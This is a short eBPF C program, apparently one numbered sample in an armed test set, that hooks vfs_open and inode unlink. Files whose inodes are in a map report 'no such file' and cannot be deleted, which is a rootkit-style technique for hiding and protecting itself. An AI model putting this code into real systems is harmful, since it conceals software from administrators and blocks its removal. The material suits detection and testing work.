// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T26: the loader's own files cannot be opened or removed: an inode match answers "no such file".
#include "kernel_types.h"

SAMPLE_SWITCH;
LICENSE;

HASH(own_inodes, u64, u8, 16);

SEC("kprobe/vfs_open")
int BPF_KPROBE(hide_open, const struct path *path)
{
	u64 ino = BPF_CORE_READ(path, dentry, d_inode, i_ino);

	if (bpf_map_lookup_elem(&own_inodes, &ino) && sample_armed)
		bpf_override_return(ctx, -ENOENT_);
	return 0;
}

SEC("fmod_ret/security_inode_unlink")
int BPF_PROG(keep_inode, struct inode *dir, struct dentry *dentry, int ret)
{
	u64 ino = BPF_CORE_READ(dentry, d_inode, i_ino);

	if (bpf_map_lookup_elem(&own_inodes, &ino) && sample_armed)
		return -EPERM_;
	return ret;
}
